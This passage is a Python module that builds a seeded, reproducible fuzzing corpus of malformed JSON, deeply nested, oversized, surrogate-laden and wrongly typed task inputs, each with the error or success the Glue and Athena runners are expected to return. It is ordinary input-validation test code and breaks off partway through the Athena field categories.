"""A deterministic corpus of hostile activity task inputs for the Glue and Athena runners.

Each case says which runner gets it and what the runner must answer, so one
fuzzing test can push the whole corpus through real state machine executions
and compare. The corpus is generated, not stored: a fixed seed gives the same
cases every run (a failure can be replayed), another seed gives new variants.

How a case is delivered: a state machine whose one Task state has
``"InputPath": "$.payload"`` is started with ``{"payload": payload}``.

* ``payload`` a ``str``: the activity receives a JSON string literal and the
  runner decodes the text inside a second time. That is the only way to get
  malformed JSON, invalid escapes, deep nesting or huge numbers to the runner
  as *text*: Step Functions itself only accepts valid JSON.
* anything else: the activity receives that JSON value as it is.

Expectations follow the documented behaviour (README "Task input" and
"Errors a state machine can catch", ``runners/task_input.py``, ``glue.py``,
``athena.py``):

* ``invalid``: the task fails with ``InvalidTaskInputError``. Most such cases
  fail in parsing alone; unknown Glue jobs and unknown Athena named queries
  need a service call (``Category.service``, ``service_categories()``);
* ``refused``: the service refused the start, ``JobStartFailedError``;
* ``valid``: the task succeeds.

Cases whose outcome depends on the service in ways not pinned down (SQL
syntax errors fail the *query*, unknown databases, Glue name-pattern
validation) are deliberately left out rather than guessed.
"""

from __future__ import annotations

import json
import random
import uuid
from dataclasses import dataclass
from typing import Any, Callable

MAX_TASK_INPUT_BYTES = 65536  # the runner's default max_task_input_bytes
SFN_MAX_INPUT_BYTES = 262144  # Step Functions' execution input limit (256 KiB)
INT_DIGITS_LIMIT = 4300  # Python's int <-> str conversion limit (json.loads raises ValueError above it)
TASK_ID_ARGUMENT = "--etl_runner_task_id"  # reserved; runners.glue.TASK_ID_ARGUMENT

GLUE, ATHENA = "glue", "athena"
INVALID, REFUSED, VALID = "invalid", "refused", "valid"


@dataclass(frozen=True)
class FuzzCase:
    """One task input and the answer the runner must give for it."""

    category: str  # e.g. "malformed-json", "deep-nesting-text"; see CATEGORIES
    kind: str  # "glue" or "athena": which runner gets it
    payload: Any  # str (delivered as text, decoded twice) or a JSON-able value
    expect: str  # "invalid" -> InvalidTaskInputError, "refused" -> JobStartFailedError, "valid" -> succeeds
    label: str  # short human description, unique within the corpus


# payload, short description
Made = tuple[Any, str]
Maker = Callable[[random.Random], Made]


@dataclass(frozen=True)
class Category:
    """How one category's cases are made. ``service``: the expected answer
    needs a service call (parsing alone accepts the input)."""

    name: str
    expect: str
    makers: dict[str, list[Maker]]  # kind -> variants
    service: bool = False

    @property
    def kinds(self) -> tuple[str, ...]:
        return tuple(self.makers)


def corpus(*, seed: int = 20261201, per_category: int = 8, glue_job: str, named_query: str, results: str) -> list[FuzzCase]:
    """``per_category`` cases of every category in ``CATEGORIES`` order.

    ``glue_job``: an existing Glue job that succeeds quickly (accepts
    ``--seconds``); ``named_query``: the *name* of an existing Athena named
    query (``SELECT 1``); ``results``: an existing ``s3://bucket/prefix/``.
    Valid controls use them; the invalid cases use them too wherever the
    input must be wrong in exactly one place. Names meant not to exist carry
    a suffix from the seeded generator.

    Deterministic: each category draws from its own ``random.Random`` seeded
    with ``seed`` and the category name, so equal arguments give equal lists
    and adding a category does not change the others.
    """
    if per_category < 1:
        raise ValueError("per_category must be at least 1")
    cases: list[FuzzCase] = []
    for category in categories(glue_job=glue_job, named_query=named_query, results=results):
        rng = random.Random(f"{seed}:{category.name}")
        kinds = category.kinds
        starts = {kind: rng.randrange(len(makers)) for kind, makers in category.makers.items()}
        for index in range(per_category):
            kind = kinds[index % len(kinds)]
            makers = category.makers[kind]
            maker = makers[(starts[kind] + index // len(kinds)) % len(makers)]
            payload, description = maker(rng)
            label = f"{category.name}[{index}] {kind}: {description}"
            case = FuzzCase(category.name, kind, payload, category.expect, label)
            _check_deliverable(case)
            cases.append(case)
    return cases


def service_categories() -> frozenset[str]:
    """Categories whose expected answer needs the service (parsing alone accepts them)."""
    return frozenset(c.name for c in categories(glue_job="j", named_query="q", results="s3://b/p/") if c.service)


def delivered_sizes(payload: Any) -> tuple[int, int]:
    """(smallest, largest) UTF-8 size of the text the activity can receive
    for ``payload``: escaped or not, compact separators or not. Oversized cases
    must exceed the runner's limit however Step Functions serializes them."""
    texts = [
        json.dumps(payload),
        json.dumps(payload, separators=(",", ":")),
        json.dumps(payload, ensure_ascii=False),
        json.dumps(payload, ensure_ascii=False, separators=(",", ":")),
    ]
    sizes = [len(text.encode("utf-8", "surrogatepass")) for text in texts]
    return min(sizes), max(sizes)


def execution_input(payload: Any) -> str:
    """The Step Functions execution input that delivers ``payload``."""
    return json.dumps({"payload": payload}, allow_nan=False)


def _check_deliverable(case: FuzzCase) -> None:
    """Fail at generation time, not in the middle of a slow fuzzing run."""
    text = execution_input(case.payload)
    size = len(text.encode("utf-8"))
    if size >= SFN_MAX_INPUT_BYTES:
        raise AssertionError(f"{case.label}: execution input is {size} bytes")


# --- helpers ------------------------------------------------------------------


def _suffix(rng: random.Random) -> str:
    return f"{rng.getrandbits(48):012x}"


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _digits(rng: random.Random, count: int) -> str:
    """A JSON integer literal of exactly ``count`` digits (no leading zero)."""
    return str(rng.randint(1, 9)) + "".join(rng.choice("0123456789") for _ in range(count - 1))


def _either(rng: random.Random, obj: dict[str, Any], description: str) -> Made:
    """The object as it is, or as the JSON string holding it (both accepted shapes)."""
    if rng.random() < 0.5:
        return obj, f"{description} (object)"
    return json.dumps(obj), f"{description} (text)"


def _with(obj: dict[str, Any], field: str, raw_json: str) -> str:
    """``obj`` as JSON text with ``"field": <raw_json>`` appended verbatim
    (for values Python cannot hold or Step Functions would normalise)."""
    head = json.dumps(obj)
    return f'{head[:-1]}, "{field}": {raw_json}}}' if obj else f'{{"{field}": {raw_json}}}'


def _fill_to(rng: random.Random, build: Callable[[int], Any]) -> Any:
    """``build(n)`` with n chosen so the input is over the runner's limit
    however it is serialised, and well under Step Functions' limit."""
    # Sizes grow linearly in n; escaping can triple or quadruple the largest form.
    low0, high0 = delivered_sizes(build(0))
    low1, high1 = delivered_sizes(build(1000))
    low_rate, high_rate = (low1 - low0) / 1000, (high1 - high0) / 1000
    n_min = int((MAX_TASK_INPUT_BYTES + 1024 - low0) / low_rate) + 1
    n_max = int((SFN_MAX_INPUT_BYTES - 4096 - high0) / high_rate)
    n = rng.randint(n_min, max(n_min, min(n_max, 3 * n_min)))
    payload = build(n)
    smallest, largest = delivered_sizes(payload)
    assert smallest > MAX_TASK_INPUT_BYTES and largest < SFN_MAX_INPUT_BYTES - 1024, (smallest, largest)
    return payload


# --- categories -----------------------------------------------------------------


def categories(*, glue_job: str, named_query: str, results: str) -> list[Category]:
    """Every category with its variants. A variant builds on a known-good
    input and breaks exactly one thing, so a runner that stopped checking that
    thing would start the real job instead of failing (and the test sees it)."""

    def glue_ok(**fields: Any) -> dict[str, Any]:
        return {"GlueJobName": glue_job, **fields}

    def athena_ok(**fields: Any) -> dict[str, Any]:
        return {"AthenaQueryString": "SELECT 1", "AthenaResultOutputLocation": results, **fields}

    def glue_rich() -> dict[str, Any]:
        return {"GlueJobName": glue_job, "Arguments": {"--seconds": "0"}}

    def missing_query(rng: random.Random) -> str:
        return f"etl-fuzz-missing-query-{_suffix(rng)}"

    def missing_job(rng: random.Random) -> str:
        return f"etl-fuzz-missing-job-{_suffix(rng)}"

    def glue_field(field: str, values: list[Any]) -> list[Maker]:
        """One maker per bad value of a Glue field (object or text form)."""
        return [lambda rng, v=v: _either(rng, glue_ok(**{field: v}), f"{field}={_short(v)}") for v in values]

    def athena_field(field: str, values: list[Any], **extra: Any) -> list[Maker]:
        return [lambda rng, v=v: _either(rng, athena_ok(**extra, **{field: v}), f"{field}={_short(v)}") for v in values]

    def both(maker: Callable[[random.Random, dict[str, Any], str], Made]) -> dict[str, list[Maker]]:
        """The same variant for both runners, applied to each one's good input."""
        return {
            GLUE: [lambda rng: maker(rng, glue_rich(), GLUE)],
            ATHENA: [lambda rng: maker(rng, athena_ok(), ATHENA)],
        }

    def per_kind(makers: list[Callable[[random.Random, dict[str, Any]], Made]]) -> dict[str, list[Maker]]:
        return {
            GLUE: [lambda rng, m=m: m(rng, glue_rich()) for m in makers],
            ATHENA: [lambda rng, m=m: m(rng, athena_ok()) for m in makers],
        }

    # -- JSON text that is not JSON ------------------------------------------------

    def truncated(rng: random.Random, obj: dict[str, Any]) -> Made:
        text = json.dumps(obj)
        cut = rng.randint(1, len(text) - 1)
        return text[:cut], f"truncated at {cut} of {len(text)}"

    malformed: list[Callable[[random.Random, dict[str, Any]], Made]] = [
        truncated,
        lambda rng, o: (json.dumps(o)[:-1] + ", }", "trailing comma in object"),
        lambda rng, o: (_with(o, "Extra", "[1, 2,]"), "trailing comma in array"),
        lambda rng, o: (json.dumps(o).replace('"', "'"), "single quotes"),
        lambda rng, o: (json.dumps(o).replace('"' + next(iter(o)) + '"', next(iter(o)), 1), "unquoted key"),
        lambda rng, o: ("// comment\n" + json.dumps(o), "line comment"),
        lambda rng, o: (json.dumps(o)[:-1] + " /* comment */}", "block comment"),
        lambda rng, o: (json.dumps(o).replace('": ', '" ', 1), "missing colon"),
        lambda rng, o: (json.dumps(o).replace(', "', ' "', 1), "missing comma"),
        lambda rng, o: (json.dumps(o) * 2, "two objects"),
        lambda rng, o: (json.dumps(o) + "}", "extra closing brace"),
        lambda rng, o: (json.dumps(o)[:-1], "missing closing brace"),
        lambda rng, o: (_with(o, "Extra", "None"), "Python None"),
        lambda rng, o: (_with(o, "Extra", "True"), "Python True"),
        lambda rng, o: (_with(o, "Extra", rng.choice(["0x1F", "007", "+1", ".5", "1.", "1e", "--1"])), "non-JSON number literal"),
        lambda rng, o: (lambda t, i: (t[:i] + t[i + 1 :], "unterminated string"))(json.dumps(o), json.dumps(o).rfind('"')),
    ]

    def nonstandard(rng: random.Random, kind: str) -> Made:
        token = rng.choice(["NaN", "Infinity", "-Infinity"])
        if kind == GLUE:
            field = rng.choice(["NumberOfWorkers", "Timeout", "GlueJobName"])
            return _with(glue_ok() if field != "GlueJobName" else {}, field, token), f"{field}={token}"
        field = rng.choice(["AthenaQueryString", "AthenaDatabase", "ExecutionParameters"])
        value = f"[{token}]" if field == "ExecutionParameters" else token
        base = athena_ok() if field != "AthenaQueryString" else {"AthenaResultOutputLocation": results}
        return _with(base, field, value), f"{field}={value}"

    def nonstandard_top(rng: random.Random) -> Made:
        token = rng.choice(["NaN", "Infinity", "-Infinity"])
        return token, f"top-level {token}"

    # -- empty and not an object ----------------------------------------------------

    empty: list[Maker] = [
        lambda rng: ("", "empty text"),
        lambda rng: (" " * rng.randint(1, 64), "spaces"),
        lambda rng: ("".join(rng.choice(" \t\r\n") for _ in range(rng.randint(1, 64))), "JSON whitespace"),
        lambda rng: ("\u00a0" * rng.randint(1, 8), "no-break spaces"),
        lambda rng: ("\u3000\u2028\u200b", "unicode spaces"),
        lambda rng: ({}, "empty object"),
        lambda rng: ("{}", "empty object text"),
        lambda rng: (" \n{ }\n ", "empty object text with whitespace"),
    ]

    not_object_value: list[Maker] = [
        lambda rng: ([], "empty array"),
        lambda rng: ([glue_rich()], "array holding a Glue input"),
        lambda rng: ([athena_ok()], "array holding an Athena input"),
        lambda rng: (rng.randint(-(10**6), 10**6), "integer"),
        lambda rng: (rng.choice([0.5, -1.25, 3.75]), "float"),
        lambda rng: (rng.choice([True, False]), "boolean"),
        lambda rng: (None, "null"),
        lambda rng: ([None, "{}"], "array of null and text"),
    ]

    not_object_text: list[Maker] = [
        lambda rng: ("[]", "array text"),
        lambda rng: (json.dumps([glue_rich()]), "array of a Glue input text"),
        lambda rng: (json.dumps([athena_ok()]), "array of an Athena input text"),
        lambda rng: (str(rng.randint(-(10**9), 10**9)), "number text"),
        lambda rng: ("null", "null text"),
        lambda rng: (rng.choice(["true", "false"]), "boolean text"),
        lambda rng: (json.dumps(f"job-{_suffix(rng)}"), "JSON string text"),
        lambda rng: ("not json at all", "plain words"),
    ]

    triple: list[Maker] = [
        lambda rng: (json.dumps(json.dumps(glue_rich())), "Glue input encoded three times"),
        lambda rng: (json.dumps(json.dumps(athena_ok())), "Athena input encoded three times"),
        lambda rng: (json.dumps(json.dumps(json.dumps(glue_ok()))), "Glue input encoded four times"),
        lambda rng: (json.dumps("{}"), "empty object encoded three times"),
    ]

    # -- nesting and numbers Python's json cannot take --------------------------------

    def depth(rng: random.Random) -> int:
        return rng.randint(1200, 5000)

    deep_top: list[Maker] = [
        lambda rng: (lambda d: ("[" * d + "]" * d, f"{d} nested arrays"))(depth(rng)),
        lambda rng: (lambda d: ('{"a": ' * d + "1" + "}" * d, f"{d} nested objects"))(depth(rng)),
        lambda rng: (lambda d: ("[" * d, f"{d} unclosed arrays"))(depth(rng)),
        lambda rng: (lambda d: ('[{"a": ' * (d // 2) + "0" + "}]" * (d // 2), f"{d // 2 * 2} alternating levels"))(depth(rng)),
    ]

    def deep_field(rng: random.Random, kind: str) -> Made:
        d = depth(rng)
        if kind == GLUE:
            field, base = rng.choice([("Arguments", glue_ok()), ("Timeout", glue_ok()), ("GlueJobName", {})])
            inner = '{"--a": ' * d + '"x"' + "}" * d if field == "Arguments" else "[" * d + "]" * d
        else:
            field, base = rng.choice([("ExecutionParameters", athena_ok()), ("AthenaDatabase", athena_ok()), ("AthenaQueryString", {"AthenaResultOutputLocation": results})])
            inner = "[" * d + '"1"' + "]" * d
        return _with(base, field, inner), f"{field} nested {d} deep"

    def huge_int(rng: random.Random, kind: str) -> Made:
        count = rng.randint(INT_DIGITS_LIMIT + 1, 20000)
        sign = rng.choice(["", "-"])
        number = sign + _digits(rng, count)
        where = rng.choice(["top", "field", "list"])
        if where == "top":
            return number, f"top-level integer of {count} digits"
        if kind == GLUE:
            field = rng.choice(["NumberOfWorkers", "Timeout", "GlueJobName"])
            base = glue_ok() if field != "GlueJobName" else {}
        else:
            field = rng.choice(["AthenaDatabase", "AthenaWorkGroup", "ExecutionParameters"])
            base = athena_ok()
        value = f"[{number}]" if where == "list" else number
        return _with(base, field, value), f"{field}={'[' if where == 'list' else ''}{count} digits"

    numeric_glue: list[Maker] = [
        lambda rng: (_with(glue_ok(), "NumberOfWorkers", rng.choice(["2.0", "1e1", "1E+1", "20e-1"])), "NumberOfWorkers integral float"),
        lambda rng: (_with(glue_ok(), "NumberOfWorkers", "-0"), "NumberOfWorkers -0"),
        lambda rng: (_with(glue_ok(), "NumberOfWorkers", "1e400"), "NumberOfWorkers 1e400 (inf)"),
        lambda rng: (_with(glue_ok(), "Timeout", "1." + _digits(rng, rng.randint(4400, 9000))), "Timeout float with a huge mantissa"),
        lambda rng: (lambda n: (_with(glue_ok(), "Timeout", _digits(rng, n)), f"Timeout integer of {n} digits (under the int limit)"))(rng.randint(1000, INT_DIGITS_LIMIT)),
        lambda rng: (_with(glue_ok(), "Timeout", rng.choice(["60.0", "6e1", "1e3"])), "Timeout integral float"),
        lambda rng: (_with(glue_ok(), "NumberOfWorkers", str(2**63 + rng.randint(0, 10**6))), "NumberOfWorkers over int64"),
        lambda rng: (_with(glue_ok(), "Timeout", "-1e-400"), "Timeout -1e-400 (negative zero float)"),
    ]
    numeric_athena: list[Maker] = [
        lambda rng: (_with(athena_ok(), "ExecutionParameters", rng.choice(["[1]", "[1.0]", "[1e400]"])), "ExecutionParameters number"),
        lambda rng: (_with(athena_ok(), "AthenaDatabase", "0"), "AthenaDatabase 0"),
        lambda rng: (_with(athena_ok(), "AthenaWorkGroup", "1e400"), "AthenaWorkGroup 1e400"),
        lambda rng: (lambda n: (_with(athena_ok(), "AthenaCatalog", _digits(rng, n)), f"AthenaCatalog integer of {n} digits"))(rng.randint(1000, INT_DIGITS_LIMIT)),
        lambda rng: (_with({"AthenaResultOutputLocation": results}, "AthenaQueryString", "1." + _digits(rng, 5000)), "AthenaQueryString float with a huge mantissa"),
    ]

    # -- unicode ------------------------------------------------------------------

    bad_escape_glue: list[Maker] = [
        lambda rng: (_with(glue_ok(), "WorkerType", '"G.1X\\u' + rng.choice(["ZZZZ", "12", "d8", "GGGG"]) + '"'), "invalid \\u escape"),
        lambda rng: (_with(glue_ok(), "WorkerType", '"G.1X' + rng.choice(["\\x41", "\\'", "\\a", "\\0", "\\U0001F600"]) + '"'), "invalid escape letter"),
        lambda rng: ("\ufeff" + json.dumps(glue_rich()), "byte order mark first"),
        lambda rng: (_with(glue_ok(), "WorkerType", '"G.1X\\ud800"'), "lone high surrogate escape in WorkerType"),
        lambda rng: (json.dumps(glue_ok())[:-1] + ', "\\udc00Timeout": 5}', "lone low surrogate escape in a key"),
        lambda rng: (_with(glue_ok(), "Arguments", '{"\\ud800--seconds": "0"}'), "lone surrogate before an argument's --"),
        lambda rng: (_with(glue_ok(), "WorkerType", '"\\udc00\\ud800"'), "reversed surrogate pair"),
        lambda rng: (json.dumps(glue_ok())[:-2] + '\\ud83d', "text ends inside a surrogate pair"),
    ]
    bad_escape_athena: list[Maker] = [
        lambda rng: (_with(athena_ok(), "AthenaDatabase", '"default\\u' + rng.choice(["ZZZZ", "12", "d8"]) + '"'), "invalid \\u escape"),
        lambda rng: ("\ufeff" + json.dumps(athena_ok()), "byte order mark first"),
        lambda rng: (_with(athena_ok(), "AthenaResultEncryptionOption", '"SSE_S3\\udfff"'), "lone surrogate escape in the encryption option"),
        lambda rng: (json.dumps({"AthenaQueryString": "SELECT 1"})[:-1] + f', "AthenaResultOutputLocation": "\\ud800{results}"}}', "lone surrogate escape before s3://"),
        lambda rng: (_with(athena_ok(), "ExecutionParameters", '["\\x31"]'), "invalid escape in a parameter"),
        lambda rng: (json.dumps(athena_ok())[:-1] + ', "Athena\\udbffWorkGroup": "primary"}', "lone surrogate escape in a key"),
    ]

    lone_value_glue: list[Maker] = [
        lambda rng: (glue_ok(WorkerType="G.1X\ud800"), "WorkerType with a lone surrogate"),
        lambda rng: (glue_ok(Arguments={"\udc00--seconds": "0"}), "argument key starting with a lone surrogate"),
        lambda rng: ({**glue_ok(), "\ud800": "x"}, "lone surrogate as a key"),
        lambda rng: (glue_ok(Arguments={"--seconds": "0", TASK_ID_ARGUMENT: "\ud800"}), "reserved argument set to a lone surrogate"),
        lambda rng: ({"GlueJobName": "\udbff" * rng.randint(256, 400)}, "job name of lone surrogates over 255"),
        lambda rng: ({"GlueJobName": ["job\ud800"]}, "job name a list holding a lone surrogate"),
    ]
    lone_value_athena: list[Maker] = [
        lambda rng: ({"AthenaQueryString": "SELECT 1", "AthenaResultOutputLocation": "\ud800" + results}, "output location starting with a lone surrogate"),
        lambda rng: (athena_ok(AthenaResultEncryptionOption="\udfff"), "encryption option a lone surrogate"),
        lambda rng: (athena_ok(ExecutionParameters=["\ud800", None]), "parameters with a lone surrogate and null"),
        lambda rng: (athena_ok(AthenaNamedQuery="\ud800"), "query string and a lone-surrogate named query"),
        lambda rng: (athena_ok(AthenaResultKmsKey="\udbff"), "KMS key a lone surrogate without KMS encryption"),
        lambda rng: ({**athena_ok(), "Athena\udc00Database": "default"}, "key with a lone surrogate"),
    ]

    lone_name_glue: list[Maker] = [
        lambda rng: ({"GlueJobName": f"job\ud800-{_suffix(rng)}"}, "job name with a lone high surrogate (object)"),
        lambda rng: ({"GlueJobName": f"{_suffix(rng)}\udc00", "Arguments": {"--seconds": "0"}}, "job name ending with a lone low surrogate (object)"),
        lambda rng: (f'{{"GlueJobName": "job\\ud800-{_suffix(rng)}"}}', "job name with a lone surrogate escape (text)"),
        lambda rng: (json.dumps({"GlueJobName": f"\udfff{glue_job}-{_suffix(rng)}"}), "near-miss job name with a lone surrogate (text)"),
    ]
    lone_name_athena: list[Maker] = [
        lambda rng: ({"AthenaNamedQuery": f"q\ud800-{_suffix(rng)}", "AthenaResultOutputLocation": results}, "named query with a lone surrogate (object)"),
        lambda rng: (f'{{"AthenaNamedQuery": "q\\udc00-{_suffix(rng)}", "AthenaResultOutputLocation": "{results}"}}', "named query with a lone surrogate escape (text)"),
        lambda rng: ({"AthenaNamedQuery": f"{named_query}\udbff{_suffix(rng)}", "AthenaResultOutputLocation": results}, "near-miss named query with a lone surrogate"),
    ]

    # -- control characters ---------------------------------------------------------

    def control(rng: random.Random) -> str:
        return rng.choice(["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f"])

    control_glue: list[Maker] = [
        lambda rng: (f'{{"GlueJobName": "{glue_job}", "WorkerType": "G.1X{control(rng)}"}}', "raw control character inside a JSON string"),
        lambda rng: (control(rng) + json.dumps(glue_rich()), "control character before the object"),
        lambda rng: (json.dumps(glue_rich()) + "\x00", "NUL after the object"),
        lambda rng: ({"Glue\x00JobName": glue_job}, "NUL inside the key"),
        lambda rng: (glue_ok(WorkerType="G.1X" + control(rng)), "control character in WorkerType"),
        lambda rng: (glue_ok(Arguments={"\x1b[31m--seconds": "0"}), "ANSI escape before an argument key"),
        lambda rng: (glue_ok(Timeout="\x00"), "Timeout a NUL string"),
        lambda rng: (glue_ok(WorkerType="G.1X\r\n"), "CRLF after WorkerType"),
    ]
    control_athena: list[Maker] = [
        lambda rng: (f'{{"AthenaQueryString": "SELECT 1", "AthenaResultOutputLocation": "{results}{control(rng)}", "AthenaDatabase": 1}}', "raw control character inside a JSON string"),
        lambda rng: (json.dumps(athena_ok()) + control(rng), "control character after the object"),
        lambda rng: (athena_ok(AthenaResultOutputLocation=control(rng) + results), "control character before s3://"),
        lambda rng: (athena_ok(AthenaResultEncryptionOption="SSE_S3" + control(rng)), "control character in the encryption option"),
        lambda rng: ({"Athena\tQueryString": "SELECT 1", "AthenaResultOutputLocation": results}, "tab inside the key"),
        lambda rng: (athena_ok(ExecutionParameters="\x00"), "parameters a NUL string"),
    ]

    # -- size -------------------------------------------------------------------------

    oversized_glue: list[Maker] = [
        lambda rng: (_fill_to(rng, lambda n: glue_ok(Arguments={"--seconds": "0", "--pad": "x" * n})), "one huge argument (object)"),
        lambda rng: (_fill_to(rng, lambda n: json.dumps(glue_ok(Arguments={"--seconds": "0", "--pad": "x" * n}))), "one huge argument (text)"),
        lambda rng: (_fill_to(rng, lambda n: glue_ok(Arguments={f"--a{i}": "0" for i in range(n)})), "many arguments"),
        lambda rng: (_fill_to(rng, lambda n: " " * n + json.dumps(glue_rich())), "whitespace padding (text)"),
        lambda rng: (_fill_to(rng, lambda n: glue_ok(Arguments={"--seconds": "0", "--pad": "\u00e9" * n})), "two-byte characters"),
        lambda rng: (_fill_to(rng, lambda n: json.dumps(glue_ok(Arguments={"--pad": "\U0001F600" * n}), ensure_ascii=False)), "four-byte characters (text)"),
    ]
    oversized_athena: list[Maker] = [
        lambda rng: (_fill_to(rng, lambda n: athena_ok(AthenaQueryString="SELECT 1 -- " + "x" * n)), "long query (object)"),
        lambda rng: (_fill_to(rng, lambda n: json.dumps(athena_ok(AthenaQueryString="SELECT 1 -- " + "x" * n))), "long query (text)"),
        lambda rng: (_fill_to(rng, lambda n: athena_ok(AthenaQueryString="SELECT " + ", ".join(["?"] * max(n, 1)), ExecutionParameters=["1"] * max(n, 1))), "many parameters"),
        lambda rng: (_fill_to(rng, lambda n: json.dumps(athena_ok(AthenaQueryString="SELECT '" + "\u00e9" * n + "'"), ensure_ascii=False)), "two-byte characters (text)"),
        lambda rng: (_fill_to(rng, lambda n: athena_ok(AthenaQueryString="SELECT '" + "\u6f22" * n + "'")), "three-byte characters"),
        lambda rng: (_fill_to(rng, lambda n: "\n" * n + json.dumps(athena_ok())), "newline padding (text)"),
    ]

    # -- Glue fields --------------------------------------------------------------------

    job_name_types: list[Maker] = [
        lambda rng: _either(rng, {"GlueJobName": rng.randint(-5, 10**6)}, "GlueJobName integer"),
        lambda rng: _either(rng, {"GlueJobName": 3.5}, "GlueJobName float"),
        lambda rng: _either(rng, {"GlueJobName": rng.choice([True, False])}, "GlueJobName boolean"),
        lambda rng: _either(rng, {"GlueJobName": None, "Arguments": {"--seconds": "0"}}, "GlueJobName null"),
        lambda rng: _either(rng, {"GlueJobName": ""}, "GlueJobName empty"),
        lambda rng: _either(rng, {"GlueJobName": [glue_job]}, "GlueJobName list"),
        lambda rng: _either(rng, {"GlueJobName": {"Name": glue_job}}, "GlueJobName object"),
        lambda rng: _either(rng, {"Arguments": {"--seconds": "0"}, "Timeout": 60}, "GlueJobName missing"),
    ]

    arguments_types = glue_field(
        "Arguments",
        [[], ["--seconds", "0"], "--seconds 0", "", 0, True, {"--seconds": 0}, {"--seconds": None}, {"--seconds": True},
         {"--seconds": ["0"]}, {"--seconds": {"v": "0"}}, {"--seconds": 0.5}],
    )
    arguments_keys = glue_field(
        "Arguments",
        [{"seconds": "0"}, {"-seconds": "0"}, {"\u2014seconds": "0"}, {" --seconds": "0"}, {"": "0"},
         {"\u2013\u2013seconds": "0"}, {"\uff0d\uff0dseconds": "0"}, {"__seconds": "0"}, {"--seconds": "0", "day": "2026-11-16"}],
    )

    def reserved(rng: random.Random) -> Made:
        value = rng.choice(["", _uuid(rng), _suffix(rng), "a" * 64, "\u00e9t\u00e9"])
        extra = rng.choice([{}, {"--seconds": "0"}, {"--seconds": "0", "--day": "2026-11-16"}])
        return _either(rng, glue_ok(Arguments={**extra, TASK_ID_ARGUMENT: value}), f"{TASK_ID_ARGUMENT} with {len(extra)} other argument(s)")

    worker_types = glue_field(
        "WorkerType",
        ["G.3X", "g.1x", "G.1X ", " G.1X", "", "Standard\n", "G.1x", "Z.1X", "G.025x", "G.1X,G.2X", 1, True, ["G.1X"], {"Type": "G.1X"}],
    )
    workers = glue_field("NumberOfWorkers", [0, -1, -100, 10001, 10**6, 2**53, True, False, "2", "", [2], {"n": 2}, 1.5])
    workers.append(lambda rng: (_with(glue_ok(), "NumberOfWorkers", "2.0"), "NumberOfWorkers=2.0 (text)"))
    timeouts = glue_field("Timeout", [0, -1, 10081, 10**7, True, "60", 60.5, [60], {"minutes": 60}, ""])
    timeouts.append(lambda rng: (_with(glue_ok(), "Timeout", "60.0"), "Timeout=60.0 (text)"))

    # -- Athena fields ---------------------------------------------------------------------

    query_types = [
        lambda rng, v=v: _either(rng, {"AthenaQueryString": v, "AthenaResultOutputLocation": results}, f"AthenaQueryString={_short(v)}")
        for v in ["", 1, True, ["SELECT 1"], {"sql": "SELECT 1"}, 0.5, False]
    ]
    query_types.append(
        lambda rng: (_fill_to(rng, lambda n: athena_ok(AthenaQueryString="SELECT '" + "y" * n + "'")), "AthenaQueryString too long for the input limit")
    )

    one_of: list[Maker] = [
        lambda rng: _either(rng, athena_ok(AthenaNamedQuery=named_query), "both query string and named query"),
        lambda rng: _either(rng, {"AthenaResultOutputLocation": results}, "neither"),
        lambda rng: _either(rng, {"AthenaDatabase": "default", "AthenaResultOutputLocation": results}, "neither, with a database"),
        lambda rng: _either(rng, {"AthenaQueryString": None, "AthenaNamedQuery": None, "AthenaResultOutputLocation": results}, "both null"),
        lambda rng: _either(rng, {"AthenaQueryString": "", "AthenaNamedQuery": named_query, "AthenaResultOutputLocation": results}, "empty query string with a named query"),
        lambda rng: _either(rng, {"AthenaQueryString": "SELECT 1", "AthenaNamedQuery": "", "AthenaResultOutputLocation": results}, "query string with an empty named query"),
        lambda rng: _either(rng, {"AthenaQueryString": "SELECT ?", "AthenaNamedQuery": named_query, "ExecutionParameters": ["1"]}, "both, with parameters"),
    ]

    named_types = [
        lambda rng, v=v: _either(rng, {"AthenaNamedQuery": v, "AthenaResultOutputLocation": results}, f"AthenaNamedQuery={_short(v)}")
        for v in [1, True, [named_query], {"Name": named_query}, "", 0.0]
    ]
    named_types.append(lambda rng: (lambda n: _either(rng, {"AthenaNamedQuery": "q" * n, "AthenaResultOutputLocation": results}, f"AthenaNamedQuery of {n} characters"))(rng.randint(257, 3000)))

    bucket = results[len("s3://"):].split("/", 1)[0] if results.startswith("s3://") else "bucket"
    output_locations = [
        lambda rng, v=v: _either(rng, {"AthenaQueryString": "SELECT 1", "AthenaResultOutputLocation": v}, f"AthenaResultOutputLocation={_short(v)}")
        for v in [f"https://{bucket}.s3.amazonaws.com/results/", "S3://" + results[5:], "s3a://" + results[5:], "s3:/" + results[5:],
                  results[5:], "/tmp/results/", " " + results, "", 5, [results], True, "arn:aws:s3:::" + bucket]
    ]

    encryption: list[Maker] = [
        *athena_field("AthenaResultEncryptionOption", ["AES256", "sse_s3", "SSE-S3", "KMS", "", 1, ["SSE_S3"]]),
        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_KMS"), "SSE_KMS without a key"),
        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="CSE_KMS"), "CSE_KMS without a key"),
        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_KMS", AthenaResultKmsKey=None), "SSE_KMS with a null key"),
        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_KMS", AthenaResultKmsKey=""), "SSE_KMS with an empty key"),
        lambda rng: _either(rng, athena_ok(AthenaResultKmsKey=f"arn:aws:kms:us-east-1:123456789012:key/{_uuid(rng)}"), "KMS key without an option"),
        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="SSE_S3", AthenaResultKmsKey=f"alias/{_suffix(rng)}"), "KMS key with SSE_S3"),
        lambda rng: _either(rng, athena_ok(AthenaResultEncryptionOption="CSE_KMS", AthenaResultKmsKey=1), "CSE_KMS with a numeric key"),
    ]

    parameters = athena_field(
        "ExecutionParameters",
        ["1", 1, [1], [None], [["1"]], {"0": "1"}, True, ["1", 2], [1.5], "", [True], [{"v": "1"}]],
        AthenaQueryString="SELECT ?",
    )

    context_fields: list[Maker] = [
        *athena_field("AthenaDatabase", [1, "", ["default"], True, {"Name": "default"}]),
        *athena_field("AthenaCatalog", [0, "", {}, ["AwsDataCatalog"]]),
        *athena_field("AthenaWorkGroup", [1, "", ["primary"], False]),
